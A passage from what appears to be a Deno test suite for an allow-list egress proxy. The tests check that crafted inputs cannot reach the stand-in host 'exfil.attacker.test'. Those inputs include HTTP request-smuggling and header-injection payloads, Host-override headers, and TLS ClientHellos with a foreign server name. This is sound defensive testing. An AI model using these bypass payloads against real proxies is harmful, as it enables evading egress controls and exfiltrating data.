    return n === null ? "nothing" : `${buffer[0]}/${buffer[5]}`;
  };
  try {
    await t.step("a whole handshake and an exchange, as a client makes them", async () => {
      // OpenSSL's client (Python's ssl), through the proxy as any script's would go.
      const client = await new Deno.Command("python3", {
        args: [
          "-c",
          `import socket, ssl, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=5)
s.sendall(b"CONNECT api.example.test:443 HTTP/1.1\\r\\n\\r\\n")
s.recv(200)
tls = ssl.create_default_context(cafile=sys.argv[2]).wrap_socket(s, server_hostname="api.example.test")
tls.sendall(b"ping")
print(tls.recv(100).decode())`,
          String(port),
          cert,
        ],
        stdout: "piped",
        stderr: "piped",
      }).output();
      const err = new TextDecoder().decode(client.stderr);
      assert.equal(new TextDecoder().decode(client.stdout).trim(), "echo: ping", err);
    });
    await t.step("a retried ClientHello naming the granted host goes up", async () => {
      const conn = await tunnel();
      try {
        // 22/2: a handshake record holding a ServerHello (the retry request, then the answer).
        assert.equal(await answerTo(conn, hello13("api.example.test", false)), "22/2");
        assert.equal(await answerTo(conn, hello13("api.example.test", true)), "22/2");
      } finally {
        conn.close();
      }
    });
    await t.step("a retried ClientHello naming another site never reaches the server", async () => {
      const conn = await tunnel();
      try {
        assert.equal(await answerTo(conn, hello13("api.example.test", false)), "22/2");
        assert.equal(await answerTo(conn, hello13("exfil.attacker.test", true)), "nothing");
      } finally {
        conn.close();
      }
      assert.match(proxy.log.at(-1)?.reason ?? "", /names "exfil\.attacker\.test"/);
    });
  } finally {
    await proxy.close();
    server.kill();
    await server.status;
    await reading;
    await Deno.remove(dir, { recursive: true });
  }
  assert.doesNotMatch(log, /exfil/, `the front end was asked for another site:\n${log}`);
  assert.match(log, /sni: api\.example\.test/);
});

Deno.test("startProxy() refuses in a tunnel what a server could read as a request naming another site: a long line, an SSLv2 hello, a bare CR", async () => {
  const upstream = recordingUpstream();
  const { connect, seen } = upstream;
  const proxy = startProxy({ port: 0, allow: ["api.example.test"], connect });
  const port = (proxy.address as Deno.NetAddr).port;
  const text = (s: string) => new TextEncoder().encode(s);
  try {
    // A request line past the head's bound, its Host sent after.
    await throughTunnel(port, "api.example.test:80", text("GET /" + "a".repeat(33 * 1024)));
    await throughTunnel(
      port,
      "api.example.test:80",
      text("GET / HTTP/1.1\r\nX: a\rHost: exfil.attacker.test\r\nHost: api.example.test\r\n\r\n"),
    );
    // An SSLv2-format hello: no server name in it, to a tunnel granted by name.
    await throughTunnel(port, "api.example.test:443", Uint8Array.from([0x80, 0x2e, 1, 3, 1]));
    // Text that is no HTTP request at all.
    await throughTunnel(port, "api.example.test:80", text("HELLO exfil.attacker.test\r\n\r\n"));
    // Bytes a server skips before what it reads: a TLS warning alert (rustls), then a ClientHello;
    // whitespace Python's `str.split` knows, then a request.
    const alert = Uint8Array.from([0x15, 3, 3, 0, 2, 1, 0]);
    const hello = clientHello("exfil.attacker.test");
    const both = new Uint8Array(alert.byteLength + hello.byteLength);
    both.set(alert);
    both.set(hello, alert.byteLength);
    await throughTunnel(port, "api.example.test:443", both);
    for (const lead of ["\x0b", "\x0c", "\x1c", "\x1f"]) {
      await throughTunnel(
        port,
        "api.example.test:80",
        text(`${lead}GET / HTTP/1.1\r\nHost: exfil.attacker.test\r\n\r\n`),
      );
    }
    // A name a parser changes (a soft hyphen `new URL` drops): the server would not know it.
    await throughTunnel(port, "api.example.test:443", clientHello("api.exam\u00adple.test"));
    await throughTunnel(
      port,
      "api.example.test:80",
      Uint8Array.from(
        "GET / HTTP/1.1\r\nHost: api.exam\u00adple.test\r\n\r\n",
        (c) => c.charCodeAt(0),
      ),
    );
    const absolute = await rawExchange(
      port,
      "GET http://api.example.test/ HTTP/1.1\r\nX: a\rHost: exfil.attacker.test\r\n\r\n",
    );
    assert.match(absolute, /^HTTP\/1\.1 400/);
    // A line a server does not take for a field ends its head: the body, a second request, was
    // then read as one (Python's http.server).
    const smuggled = "GET /secret HTTP/1.1\r\nHost: exfil.attacker.test\r\n\r\n";
    for (const odd of ["Foo Bar: x", " folded: x", "Foo : x"]) {
      const head = `Host: api.example.test\r\n${odd}\r\nContent-Length: ${smuggled.length}` +
        `\r\n\r\n${smuggled}`;
      assert.match(
        await rawExchange(port, `POST http://api.example.test/ HTTP/1.1\r\n${head}`),
        /^HTTP\/1\.1 400/,
      );
      await throughTunnel(port, "api.example.test:80", text(`POST / HTTP/1.1\r\n${head}`));
    }
    assert.match(
      await rawExchange(port, "GET http://api.example.test/ HTTP/9.9\r\n\r\n"),
      /^HTTP\/1\.1 400/,
    );
    await new Promise((r) => setTimeout(r, 100));
    assert.deepEqual(seen, []);
    assert.equal(proxy.log.filter((entry) => entry.allowed).length, 0);
    // What front ends behind a proxy read another host from never goes up.
    await throughTunnel(
      port,
      "api.example.test:80",
      text(
        "GET / HTTP/1.1\r\nHost: api.example.test\r\nX-Forwarded-Host: exfil.attacker.test\r\n" +
          "Forwarded: host=exfil.attacker.test\r\nX_Forwarded_Host: exfil.attacker.test\r\n" +
          "X-HTTP-Host-Override: exfil.attacker.test\r\n\r\n",
      ),
    );
    await new Promise((r) => setTimeout(r, 100));
    assert.equal(seen.length, 1);
    assert.doesNotMatch(seen[0]!, /exfil/);
    // Framed in the proxy's own words, first: the host, the end of the connection, the length.
    assert.match(
      seen[0]!,
      /^GET \/ HTTP\/1\.1\r\nHost: api\.example\.test\r\nConnection: close\r\n/,
    );
  } finally {
    await proxy.close();
    await upstream.close();
  }
});

Deno.test("startProxy() knows a HelloRetryRequest the server cut into records and TCP segments, and checks the ClientHello that answers it", async () => {
  const random = [
    ...Uint8Array.fromHex("cf21ad74e59a6111be1d8c021e65b891c2a211167abb8c5e079e09e2c8a8339c"),
  ];
  const body = [3, 3, ...random, 0, 0x13, 0x01, 0, 0, 6, 0, 0x2b, 0, 2, 3, 4];
  const retry = [2, 0, (body.length >> 8) & 255, body.length & 255, ...body];
  // Two records (10 bytes, then the rest), sent a few bytes at a time.
  const records = [
    0x16,
    3,
    3,
    0,
    10,
    ...retry.slice(0, 10),
    0x16,
    3,
    3,
    0,
    retry.length - 10,
    ...retry.slice(10),
  ];
  const after: string[] = [];
  const upstream = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const serving = (async () => {
    for await (const conn of upstream) {
      const buffer = new Uint8Array(65536);
      try {
        await conn.read(buffer);
        for (let i = 0; i < records.length; i += 7) {
          await conn.write(Uint8Array.from(records.slice(i, i + 7)));
          await new Promise((r) => setTimeout(r, 2));
        }
        const n = await conn.read(buffer);
        if (n) after.push(new TextDecoder("latin1").decode(buffer.subarray(0, n)));
      } catch {
        // the proxy cut the tunnel
      } finally {
        conn.close();
      }
    }
  })();
  const connect: ProxyConnect = () =>
    Deno.connect({ hostname: "127.0.0.1", port: (upstream.addr as Deno.NetAddr).port });
  const proxy = startProxy({ port: 0, allow: ["api.example.test"], connect });
  const port = (proxy.address as Deno.NetAddr).port;
  try {
    const conn = await Deno.connect({ hostname: "127.0.0.1", port });
    await conn.write(new TextEncoder().encode("CONNECT api.example.test:443 HTTP/1.1\r\n\r\n"));
    const buffer = new Uint8Array(65536);
    await conn.read(buffer);
    await conn.write(hello13("api.example.test", false));
    let got = 0;
    while (got < records.length) {
      const n = await conn.read(buffer);
      if (n === null) break;
      got += n;
    }
    assert.equal(got, records.length, "the retry request did not come through");
    await conn.write(hello13("exfil.attacker.test", true));
    await conn.read(buffer).catch(() => null);
    conn.close();
    await new Promise((r) => setTimeout(r, 50));
    assert.deepEqual(after, [], "the second ClientHello reached the server");
    assert.match(proxy.log.at(-1)?.reason ?? "", /exfil\.attacker\.test/);
  } finally {
    await proxy.close();
    upstream.close();
    await serving;
  }
});

Deno.test("startProxy() admits a TLS server name for an address grant only as that address, spelled so", async () => {
  const upstream = recordingUpstream();
  const { connect, seen } = upstream;
  const proxy = startProxy({ port: 0, allow: ["93.184.216.34"], connect });
  const port = (proxy.address as Deno.NetAddr).port;
  try {
    await throughTunnel(port, "93.184.216.34:443", clientHello("0x5d.184.216.34"));
    await throughTunnel(port, "93.184.216.34:443", clientHello("exfil.attacker.test"));
    await new Promise((r) => setTimeout(r, 50));
    assert.deepEqual(seen, []);
    await throughTunnel(port, "93.184.216.34:443", clientHello(null));
    await new Promise((r) => setTimeout(r, 50));
    assert.equal(seen.length, 1, "a ClientHello with no name to an address grant was refused");
  } finally {
    await proxy.close();
    await upstream.close();
  }
});

Deno.test("startProxy() lets a retried ClientHello through after the early data its first one announced", async () => {
  const random = [
    ...Uint8Array.fromHex("cf21ad74e59a6111be1d8c021e65b891c2a211167abb8c5e079e09e2c8a8339c"),
  ];
  const body = [3, 3, ...random, 0, 0x13, 0x01, 0, 0, 6, 0, 0x2b, 0, 2, 3, 4];
  const retry = Uint8Array.from([0x16, 3, 3, 0, body.length + 4, 2, 0, 0, body.length, ...body]);
  const after: string[] = [];
  const upstream = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const serving = (async () => {
    for await (const conn of upstream) {
      const buffer = new Uint8Array(65536);
      try {
        await conn.read(buffer);
        await conn.write(retry);
        const n = await conn.read(buffer);
        if (n) after.push(new TextDecoder("latin1").decode(buffer.subarray(0, n)));
      } catch {
        // the proxy cut the tunnel
      } finally {
        conn.close();
      }
    }
  })();
  const connect: ProxyConnect = () =>
    Deno.connect({ hostname: "127.0.0.1", port: (upstream.addr as Deno.NetAddr).port });
  const proxy = startProxy({ port: 0, allow: ["api.example.test"], connect });
  const port = (proxy.address as Deno.NetAddr).port;
  const joined = (...parts: Uint8Array[]) => {
    const all = new Uint8Array(parts.reduce((n, p) => n + p.byteLength, 0));
    let at = 0;
    for (const part of parts) all.set(part, (at += part.byteLength) - part.byteLength);
    return all;
  };
  try {
    const conn = await Deno.connect({ hostname: "127.0.0.1", port });
    await conn.write(new TextEncoder().encode("CONNECT api.example.test:443 HTTP/1.1\r\n\r\n"));
    const buffer = new Uint8Array(65536);
    await conn.read(buffer);
    // The first hello announces early data (0-RTT), which follows it at once.
    const earlyData = Uint8Array.from([0x17, 3, 3, 0, 4, 1, 2, 3, 4]);
    await conn.write(joined(clientHello("api.example.test", [[0x2a, []]]), earlyData));
    let got = 0;
    while (got < retry.byteLength) {
      const n = await conn.read(buffer);
      if (n === null) break;
      got += n;
    }
    const changeCipherSpec = Uint8Array.from([0x14, 3, 3, 0, 1, 1]);
    await conn.write(joined(changeCipherSpec, clientHello("api.example.test")));
    await new Promise((r) => setTimeout(r, 100));
    conn.close();
    assert.equal(after.length, 1, "nothing reached the server after its retry request");
    assert.match(after[0]!, /api\.example\.test/);
    assert.equal(proxy.log.at(-1)?.allowed, true, proxy.log.at(-1)?.reason);
  } finally {
    await proxy.close();
    upstream.close();
    await serving;
  }
});

Deno.test("startProxy() sends up the very bytes it checked (bytes 0x80-0x9f are no windows-1252 characters to it)", async () => {
  const upstream = recordingUpstream();
  const { connect, bytes: seen } = upstream;
  const proxy = startProxy({ port: 0, allow: ["api.example.test"], connect });
  const port = (proxy.address as Deno.NetAddr).port;
  const bytes = (text: string) => Uint8Array.from(text, (c) => c.charCodeAt(0));
  try {
    // 0x93 is U+201C to windows-1252, whose low byte, written back, is 0x1C.
    const head =
      "Host: api.example.test\r\nX-A: a\x93X-Forwarded-Host: exfil.attacker.test\r\n\r\n";
    await throughTunnel(port, "api.example.test:80", bytes(`GET /a HTTP/1.1\r\n${head}`));
    await throughTunnel(
      port,
      "api.example.test:80",
      bytes("GET /a HTTP/1.1\x93x HTTP/1.1\r\n" + head),
    );
    await new Promise((r) => setTimeout(r, 100));
    assert.equal(seen.length, 1);
    assert.ok(!seen[0]!.includes(0x1c), "a control character reached the upstream");
    assert.ok(seen[0]!.includes(0x93), "the byte sent was not the byte checked");
  } finally {
    await proxy.close();
    await upstream.close();
  }
});
